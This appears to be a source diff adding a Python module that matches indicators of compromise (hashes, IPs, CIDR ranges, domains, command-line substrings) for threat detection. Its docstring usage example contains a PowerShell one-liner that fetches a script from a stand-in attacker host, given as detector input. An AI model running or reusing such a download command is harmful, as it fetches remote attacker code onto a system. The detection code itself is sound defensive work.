@@ -0,0 +1,412 @@
+"""
+In-memory matching of indicators of compromise (IOCs).
+
+An IocIndex is compiled once from indicators (ThreatIntelEvent records or
+a local feed file) and then answers lookups without I/O:
+
+- file hashes (md5/sha1/sha256): one hash set, O(1) per lookup;
+- IP addresses: a hash set of exact addresses plus a CIDR radix trie
+  (shared.ip_enrichment.CidrTrie) for ranges;
+- domains: a hash set probed with every parent suffix of a hostname
+  (``a.b.evil.com`` -> ``a.b.evil.com``, ``b.evil.com``, ``evil.com``); in
+  free text the domain-like tokens are extracted and probed the same way;
+- substrings of command lines, paths and URLs: an Aho-Corasick automaton
+  that finds all patterns in one pass over the text. The C implementation
+  from ``pyahocorasick`` is used when installed, a pure-Python automaton
+  otherwise.
+
+Domains are deliberately not put into the automaton: with millions of
+domains an automaton costs gigabytes in Python, while suffix probes give
+the same label-boundary matches from a plain set.
+
+An index is immutable after build. Callers swap the whole index (one
+reference assignment) to update indicators without blocking lookups; see
+IocMatcherHolder. Text results are memoized per index because the same
+command lines arrive from every host.
+
+    index = IocIndex.build(load_indicator_feed("feeds/iocs.jsonl"))
+    index.match_hash("44d88612fea8a8f36de82e1278abb02f")
+    index.match_text('powershell -c "iwr http://evil.example.com/a.ps1"')
+"""
+
+import csv
+import json
+import re
+import threading
+import time
+from collections import deque
+from typing import Any, Dict, Iterable, Iterator, List, Optional, Sequence, Tuple
+
+from .ip_enrichment import CidrTrie, parse_cidr, parse_ip
+
+try:
+    import ahocorasick
+except ImportError:  # pragma: no cover - optional C extension
+    ahocorasick = None
+
+__all__ = [
+    "Indicator",
+    "IocMatch",
+    "AhoCorasick",
+    "IocIndex",
+    "IocMatcherHolder",
+    "load_indicator_feed",
+    "indicators_from_threat_intel",
+]
+
+HASH_TYPES = frozenset(("hash", "md5", "sha1", "sha256", "file_hash", "filehash"))
+IP_TYPES = frozenset(("ip", "ipv4", "ipv6", "ip_address", "ip-src", "ip-dst", "cidr"))
+DOMAIN_TYPES = frozenset(("domain", "hostname", "fqdn"))
+SUBSTRING_TYPES = frozenset(("cmdline", "command_line", "substring", "string", "url", "path", "filename"))
+
+_HEX = re.compile(r"^[0-9a-f]{32}$|^[0-9a-f]{40}$|^[0-9a-f]{64}$")
+_DOMAIN_TOKEN = re.compile(r"(?<![a-z0-9-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z][a-z0-9-]{0,61}(?![a-z0-9-])")
+_DOMAIN_TRIGGER = re.compile(r"[a-z0-9]\.[a-z]")
+
+TEXT_CACHE_SIZE = 50_000
+MAX_CACHED_TEXT = 4096
+
+
+class Indicator:
+    """One indicator; type is one of hash, ip, domain, substring after normalization."""
+
+    __slots__ = ("type", "value", "threat_type", "confidence", "source")
+
+    def __init__(self, type: str, value: str, threat_type: str = "unknown",
+                 confidence: int = 50, source: str = "local"):
+        self.type = type
+        self.value = value
+        self.threat_type = threat_type
+        self.confidence = confidence
+        self.source = source
+
+    @classmethod
+    def normalized(cls, indicator_type: str, value: str, threat_type: Optional[str] = None,
+                   confidence: Optional[int] = None, source: Optional[str] = None) -> Optional["Indicator"]:
+        """Indicator with a canonical type and value, or None when it is unusable."""
+        if confidence is None or confidence == "":
+            confidence = 50
+        else:
+            try:
+                confidence = int(confidence)
+            except (TypeError, ValueError):
+                return None
+        kind = (indicator_type or "").strip().lower()
+        value = (value or "").strip()
+        if not value:
+            return None
+        if kind in HASH_TYPES:
+            value = value.lower()
+            if not _HEX.match(value):
+                return None
+            kind = "hash"
+        elif kind in IP_TYPES:
+            kind = "ip"
+        elif kind in DOMAIN_TYPES:
+            value = value.lower().rstrip(".")
+            if value.startswith("*."):
+                value = value[2:]
+            kind = "domain"
+        elif kind in SUBSTRING_TYPES:
+            value = value.lower()
+            kind = "substring"
+        else:
+            return None
+        return cls(kind, value, threat_type or "unknown", confidence, source or "local")
+
+    def as_dict(self) -> Dict[str, Any]:
+        return {
+            "indicator_type": self.type,
+            "indicator": self.value,
+            "threat_type": self.threat_type,
+            "confidence": self.confidence,
+            "source": self.source,
+        }
+
+
+class IocMatch:
+    """A hit: the indicator and the observed value that matched it."""
+
+    __slots__ = ("indicator", "observed")
+
+    def __init__(self, indicator: Indicator, observed: str):
+        self.indicator = indicator
+        self.observed = observed
+
+
+class AhoCorasick:
+    """Pure-Python Aho-Corasick automaton over lowercase patterns."""
+
+    def __init__(self, patterns: Iterable[Tuple[str, Any]]):
+        self._goto: List[Dict[str, int]] = [{}]
+        self._fail: List[int] = [0]
+        self._out: List[List[Any]] = [[]]
+        for pattern, payload in patterns:
+            if pattern:
+                self._add(pattern, payload)
+        self._link()
+
+    def _add(self, pattern: str, payload: Any) -> None:
+        state = 0
+        goto = self._goto
+        for char in pattern:
+            nxt = goto[state].get(char)
+            if nxt is None:
+                nxt = len(goto)
+                goto[state][char] = nxt
+                goto.append({})
+                self._fail.append(0)
+                self._out.append([])
+            state = nxt
+        self._out[state].append(payload)
+
+    def _link(self) -> None:
+        goto, fail, out = self._goto, self._fail, self._out
+        queue = deque(goto[0].values())
+        while queue:
+            state = queue.popleft()
+            for char, nxt in goto[state].items():
+                queue.append(nxt)
+                link = fail[state]
+                while link and char not in goto[link]:
+                    link = fail[link]
+                candidate = goto[link].get(char, 0)
+                fail[nxt] = candidate if candidate != nxt else 0
+                if out[fail[nxt]]:
+                    # Outputs of the suffix state are reported here as well
+                    out[nxt] = out[nxt] + out[fail[nxt]]
+
+    def __len__(self) -> int:
+        return len(self._goto)
+
+    def iter(self, text: str) -> Iterator[Any]:
+        """Payloads of all patterns occurring in text (text must be lowercase)."""
+        goto, fail, out = self._goto, self._fail, self._out
+        state = 0
+        for char in text:
+            nxt = goto[state].get(char)
+            while nxt is None and state:
+                state = fail[state]
+                nxt = goto[state].get(char)
+            state = nxt or 0
+            if out[state]:
+                yield from out[state]
+
+
+def _build_automaton(patterns: Sequence[Tuple[str, Any]]):
+    if ahocorasick is not None:
+        automaton = ahocorasick.Automaton()
+        for pattern, payload in patterns:
+            automaton.add_word(pattern, payload)
+        automaton.make_automaton()
+        return automaton
+    return AhoCorasick(patterns)
+
+
+def _iter_automaton(automaton, text: str) -> Iterator[Any]:
+    if isinstance(automaton, AhoCorasick):
+        return automaton.iter(text)
+    return (payload for _, payload in automaton.iter(text))
+
+
+class IocIndex:
+    """Immutable compiled indicator index."""
+
+    def __init__(self):
+        self.hashes: Dict[str, Indicator] = {}
+        self.ips: Dict[Tuple[int, int], Indicator] = {}
+        self.cidrs = {4: CidrTrie(32), 6: CidrTrie(128)}
+        self.domains: Dict[str, Indicator] = {}
+        self.automaton = None
+        self.substrings = 0
+        self.skipped = 0
+        self.built_at = time.time()
+        self.build_seconds = 0.0
+        self._text_cache: Dict[str, Tuple[IocMatch, ...]] = {}
+
+    @classmethod
+    def build(cls, indicators: Iterable[Optional[Indicator]]) -> "IocIndex":
+        """
+        Compile an index; for duplicate values the highest confidence wins.
+        None entries (rows the loaders could not use) count as skipped.
+        """
+        start = time.perf_counter()
+        index = cls()
+        substrings: Dict[str, Indicator] = {}
+        cidr_indicators: Dict[Tuple[int, int, int], Indicator] = {}
+        for indicator in indicators:
+            if indicator is None:
+                index.skipped += 1
+                continue
+            kind = indicator.type
+            if kind == "hash":
+                target: Optional[Dict[Any, Indicator]] = index.hashes
+                key: Any = indicator.value
+            elif kind == "domain":
+                target, key = index.domains, indicator.value
+            elif kind == "substring":
+                target, key = substrings, indicator.value
+            elif kind == "ip":
+                if "/" in indicator.value:
+                    try:
+                        target, key = cidr_indicators, parse_cidr(indicator.value)
+                    except ValueError:
+                        target = None
+                else:
+                    target, key = index.ips, parse_ip(indicator.value)
+                    if key is None:
+                        target = None
+            else:
+                target = None
+            if target is None:
+                index.skipped += 1
+                continue
+            current = target.get(key)
+            if current is None or indicator.confidence > current.confidence:
+                target[key] = indicator
+        for (version, network, length), indicator in cidr_indicators.items():
+            index.cidrs[version].insert(network, length, ("ioc", indicator))
+        if substrings:
+            index.automaton = _build_automaton([(value, indicator) for value, indicator in substrings.items()])
+        index.substrings = len(substrings)
+        index.build_seconds = time.perf_counter() - start
+        return index
+
+    # === Lookups ===
+
+    def match_hash(self, value: Optional[str]) -> Optional[IocMatch]:
+        if not value:
+            return None
+        indicator = self.hashes.get(value.lower())
+        return IocMatch(indicator, value) if indicator is not None else None
+
+    def match_ip(self, value: Optional[str]) -> Optional[IocMatch]:
+        if not value or not (self.ips or self.cidrs[4].size or self.cidrs[6].size):
+            return None
+        parsed = parse_ip(value)
+        if parsed is None:
+            return None
+        indicator = self.ips.get(parsed)
+        if indicator is None:
+            labels = self.cidrs[parsed[0]].lookup(parsed[1])
+            if not labels:
+                return None
+            # The most specific range is the last one
+            indicator = labels[-1][1]
+        return IocMatch(indicator, value)
+
+    def match_domain(self, value: Optional[str]) -> Optional[IocMatch]:
+        if not value or not self.domains:
+            return None
+        domain = value.lower().rstrip(".")
+        domains = self.domains
+        while True:
+            indicator = domains.get(domain)
+            if indicator is not None:
+                return IocMatch(indicator, value)
+            dot = domain.find(".")
+            # Stop before the bare TLD: "com" alone is never an indicator
+            if dot < 0 or domain.find(".", dot + 1) < 0:
+                return None
+            domain = domain[dot + 1:]
+
+    def match_text(self, text: Optional[str]) -> Tuple[IocMatch, ...]:
+        """Substring indicators and domains found in free text (command lines, paths, URLs)."""
+        if not text:
+            return ()
+        cacheable = len(text) <= MAX_CACHED_TEXT
+        if cacheable:
+            cached = self._text_cache.get(text)
+            if cached is not None:
+                return cached
+        lowered = text.lower()
+        matches: List[IocMatch] = []
+        seen = set()
+        if self.automaton is not None:
+            for indicator in _iter_automaton(self.automaton, lowered):
+                if indicator.value not in seen:
+                    seen.add(indicator.value)
+                    matches.append(IocMatch(indicator, text))
+        if self.domains and _DOMAIN_TRIGGER.search(lowered):
+            for token in _DOMAIN_TOKEN.findall(lowered):
+                match = self.match_domain(token)
+                if match is not None and match.indicator.value not in seen:
+                    seen.add(match.indicator.value)
+                    matches.append(IocMatch(match.indicator, token))
+        result = tuple(matches)
+        if cacheable:
+            if len(self._text_cache) >= TEXT_CACHE_SIZE:
+                self._text_cache.clear()
+            self._text_cache[text] = result
+        return result
+
+    def __len__(self) -> int:
+        return len(self.hashes) + len(self.ips) + self.cidrs[4].size + self.cidrs[6].size \
+            + len(self.domains) + self.substrings
+
+    def stats(self) -> Dict[str, Any]:
+        return {
+            "indicators": len(self),
+            "hashes": len(self.hashes),
+            "ips": len(self.ips),
+            "cidrs": self.cidrs[4].size + self.cidrs[6].size,
+            "domains": len(self.domains),
+            "substrings": self.substrings,
+            "skipped": self.skipped,
+            "automaton": "pyahocorasick" if ahocorasick is not None else "python",
+            "built_at": self.built_at,
+            "build_seconds": round(self.build_seconds, 3),
+        }
+
+
+class IocMatcherHolder:
+    """
+    The current index behind a lock-free reference.
+
+    Readers take ``holder.index`` once per event; swap() replaces it after
+    a new index has been built elsewhere (e.g. in a worker thread), so
+    lookups never wait for a rebuild.
+    """
+
+    def __init__(self, index: Optional[IocIndex] = None):
+        self.index = index if index is not None else IocIndex()
+        self.version = 0
+        self._lock = threading.Lock()
+
+    def swap(self, index: IocIndex) -> IocIndex:
+        with self._lock:
+            previous, self.index = self.index, index
+            self.version += 1
+        return previous
+
+
+# === Loading ===
+
+def indicators_from_threat_intel(records: Iterable[Dict[str, Any]]) -> Iterator[Optional[Indicator]]:
+    """
+    Indicators from ThreatIntelEvent-shaped dicts (indicator_type,
+    indicator_value, ...); None for every unusable record, so that
+    IocIndex.build counts it as skipped.
+    """
+    for record in records:
+        yield Indicator.normalized(
+            record.get("indicator_type", ""),
+            record.get("indicator_value", ""),
+            record.get("threat_type"),
+            record.get("confidence"),
+            record.get("source"),
+        )
+
+
+def load_indicator_feed(path: str) -> Iterator[Optional[Indicator]]:
+    """
+    Indicators from a local feed: JSON lines of ThreatIntelEvent records
+    (.jsonl/.json) or CSV with the header
+    indicator_type,indicator_value,threat_type,confidence,source.
+    """
+    with open(path, "r", encoding="utf-8", newline="") as f:
+        if path.endswith(".csv"):
+            rows: Iterable[Dict[str, Any]] = csv.DictReader(f)
+        else:
+            rows = (json.loads(line) for line in f if line.strip())
+        yield from indicators_from_threat_intel(rows)